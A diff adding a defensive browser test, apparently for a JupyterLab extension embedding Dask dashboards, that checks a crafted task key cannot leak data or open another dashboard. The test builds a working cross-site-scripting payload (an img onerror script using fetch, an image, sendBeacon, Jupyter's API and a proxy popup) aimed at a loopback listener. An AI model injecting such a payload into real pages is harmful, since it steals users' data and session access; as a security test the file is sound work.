@@ -10,7 +10,9 @@ what matters is checked on the server too: no kernel started, no file written.
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
@@ -180,3 +182,85 @@ def test_a_task_key_rendered_by_daskss_exceptions_plot_cannot_reach_the_lab(
 
 def _fail(message: str) -> None:
     raise ValueError(message)
+
+
+class _Listener:
+    """Any host a page might send what it read to: here a loopback port that writes down requests."""
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        heard = self.requests
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+
+            do_POST = do_GET  # sendBeacon posts
+
+            def log_message(self, *args: object) -> None:
+                return
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _exfiltration(listener: int, other: int) -> str:
+    """A task key that, rendered by the Exceptions plot, sends what it can: to a loopback listener
+    (fetch, a picture, a beacon), to Jupyter's API, and by a popup on another dashboard's proxy
+    link, which would have the server fetch it with the user's session. It counts the requests the
+    page's policy blocked, so the test waits for them rather than for time."""
+    script = (
+        "document.addEventListener('securitypolicyviolation',"
+        "e=>{window.__blocked=(window.__blocked||0)+1});"
+        f"fetch('http://127.0.0.1:{listener}/fetch').catch(()=>0);"
+        f"(new Image).src='http://127.0.0.1:{listener}/image';"
+        f"navigator.sendBeacon('http://127.0.0.1:{listener}/beacon');"
+        "fetch(location.pathname.split('/dashdock/')[0]+'/api/contents').catch(()=>0);"
+        "window.open(location.pathname.split('/dashdock/')[0]"
+        f"+'/dashdock/proxy/127.0.0.1:{other}/status');"
+        "window.__sent=1"
+    )
+    return f'<img src=x onerror="{script}">'
+
+
+def test_a_task_key_in_the_exceptions_pane_can_send_nothing_out_nor_open_another_dashboard(
+    browser: Browser, lab: Lab
+) -> None:
+    listener, other = _Listener(), _Listener()
+    cluster = LocalCluster(
+        n_workers=1,
+        threads_per_worker=1,
+        processes=False,
+        protocol="tcp",
+        host="127.0.0.1",
+        dashboard_address="127.0.0.1:0",
+    )
+    client = Client(cluster)
+    try:
+        key = _exfiltration(listener.port, other.port)
+        assert client.submit(_fail, "stolen", key=key).exception(timeout=30) is not None
+        source: Any = lab.api("dashdock/api/sources", "POST", {"url": cluster.dashboard_link})
+        page = open_lab(browser, lab, "exceptions-exfiltration")
+        with page.context.expect_page() as opened:
+            frame = _open_plot(page, source["id"], "/individual-exceptions", "Exceptions")
+            frame.wait_for_function("() => window.__sent === 1", timeout=45_000)  # the script ran
+        popup = opened.value
+        # The popup asks first; nothing reached the other dashboard.
+        expect(popup.get_by_text(f"Open the dashboard at 127.0.0.1:{other.port}?")).to_be_visible()
+        # fetch, picture, beacon and Jupyter's API: each blocked by the page's policy.
+        frame.wait_for_function("() => (window.__blocked || 0) >= 4", timeout=45_000)
+        assert listener.requests == [] and other.requests == []
+        screenshot(page, "exceptions-exfiltration-blocked")
+        page.context.close()
+    finally:
+        client.close()
+        cluster.close()
+        listener.close()
+        other.close()
